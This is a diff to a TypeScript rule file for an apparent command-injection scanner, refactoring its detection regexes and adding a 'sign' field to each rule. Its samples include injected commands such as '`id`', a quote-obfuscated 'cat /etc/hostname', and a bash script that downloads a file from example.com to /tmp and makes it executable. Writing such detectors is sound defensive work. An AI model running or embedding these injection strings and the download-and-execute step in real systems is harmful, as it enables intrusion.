@@ -1,9 +1,23 @@
 import { pairsOf, type Rule } from '../rule.js'
-import { findInjectedCommand, findLeadingCommand, findLoneCommand, findProgramPath, LEADING_WORDS } from './command-line.js'
+import {
+  findInjectedCommand,
+  findLeadingCommand,
+  findLoneCommand,
+  findProgramPath,
+  INJECTED_SIGN,
+  LEADING_SIGN,
+  LEADING_WORDS,
+  PROGRAM_PATH
+} from './command-line.js'
 import { POWERSHELL_COMMAND, POWERSHELL_LITERALS, POWERSHELL_VERB_NOUN } from './windows-commands.js'
 
 /** Where a word may begin that is quoted apart, or be so. */
 const QUOTED_STARTS = `\\ '' "" ${pairsOf('\n\t ;|&`(', '\' "')}`
+
+/** What a string begins with that is a command behind another. */
+const LEADING_SEPARATOR = /^\s*["']?\)?\s*(?:[;|]|&&|\$\(|`[^`]{2,64}`$)[\s+]*["']?\(?/
+
+const APART = /(?:^|[;|&\s`(])((?:[a-z/]+(?:''|""|\\(?=[a-z]))[a-z/'"\\]*|["'][a-z]{1,8}["'][a-z]{1,12})(?=[\s;|&`)]|$))/g
 
 /** Commands: names of programs where a shell would run them. Shell syntax without names is in command-syntax. */
 export const COMMAND_RULES: readonly Rule[] = [
@@ -15,6 +29,7 @@ export const COMMAND_RULES: readonly Rule[] = [
     literals: '; | & \n \r ` $( <( >( { do␣ then␣',
     follows: LEADING_WORDS,
     test: findInjectedCommand,
+    sign: INJECTED_SIGN,
     finds: '`id`',
     leaves: '${name'
   },
@@ -46,6 +61,7 @@ export const COMMAND_RULES: readonly Rule[] = [
     literals: '; | ` $(',
     follows: LEADING_WORDS,
     test: findInjectedCommand,
+    sign: INJECTED_SIGN,
     finds: '`id`',
     leaves: 'a || b'
   },
@@ -57,6 +73,7 @@ export const COMMAND_RULES: readonly Rule[] = [
     begins: LEADING_WORDS,
     needs: '␣<>|/-;\n',
     test: findLeadingCommand,
+    sign: LEADING_SIGN,
     finds: '`uname -a`',
     leaves: 'Dublin'
   },
@@ -65,10 +82,8 @@ export const COMMAND_RULES: readonly Rule[] = [
     why: 'A string of a message that begins with a separator and a command.',
     reach: 'field',
     literals: '; | & ` $(',
-    test: (text) =>
-      text.length < 200 && /^\s*["']?\)?\s*(?:[;|]|&&|\$\(|`[^`]{2,64}`$)[\s+]*["']?\(?/.test(text)
-        ? findInjectedCommand(text.replace(/\+/g, ' '))
-        : -1,
+    test: (text) => (text.length < 200 && LEADING_SEPARATOR.test(text) ? findInjectedCommand(text.replace(/\+/g, ' ')) : -1),
+    sign: LEADING_SEPARATOR,
     finds: '`id`',
     leaves: 'a || b'
   },
@@ -101,6 +116,7 @@ export const COMMAND_RULES: readonly Rule[] = [
     except: ['path'],
     literals: QUOTED_STARTS,
     test: findQuotedApart,
+    sign: APART,
     finds: 'c\\at /etc/hostname',
     leaves: "O'Brien"
   },
@@ -111,6 +127,7 @@ export const COMMAND_RULES: readonly Rule[] = [
     except: ['string', 'path', 'name'],
     literals: 'bin/',
     test: findProgramPath,
+    sign: PROGRAM_PATH,
     finds: '\n/usr/bin/id\n',
     leaves: 'the bin/ folder'
   },
@@ -173,8 +190,6 @@ export const COMMAND_RULES: readonly Rule[] = [
       '#!/usr/bin/env bash\nset -euo pipefail\n\nfor f in /etc/*.conf; do\n  cat "$f" | grep -v "^#" || true\ndone\ncurl -fsS "https://example.com/$(uname -s)" -o /tmp/x; chmod +x /tmp/x\n'
   }
 ]
-
-const APART = /(?:^|[;|&\s`(])((?:[a-z/]+(?:''|""|\\(?=[a-z]))[a-z/'"\\]*|["'][a-z]{1,8}["'][a-z]{1,12})(?=[\s;|&`)]|$))/g
 
 function findQuotedApart(text: string): number {
   APART.lastIndex = 0
